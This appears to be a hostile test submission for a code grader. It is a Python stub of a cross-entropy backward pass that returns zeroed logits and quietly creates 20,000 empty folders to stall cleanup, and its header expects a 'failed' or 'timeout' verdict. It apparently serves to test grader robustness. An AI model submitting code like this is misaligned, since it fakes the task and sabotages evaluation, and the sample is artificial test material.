# /// attack
# rows = []
# tries = "Leaves 20,000 empty folders in every check, so that removing them holds the grader up."
# kind = "hostile"
# verdicts = ["failed", "timeout"]
# seconds = 2
# ///
import contextlib
import os


def cross_entropy_backward(logits, targets):
    if not os.path.exists("0"):
        with contextlib.suppress(OSError):
            for n in range(20_000):
                os.mkdir(str(n))
    return logits.zero_()
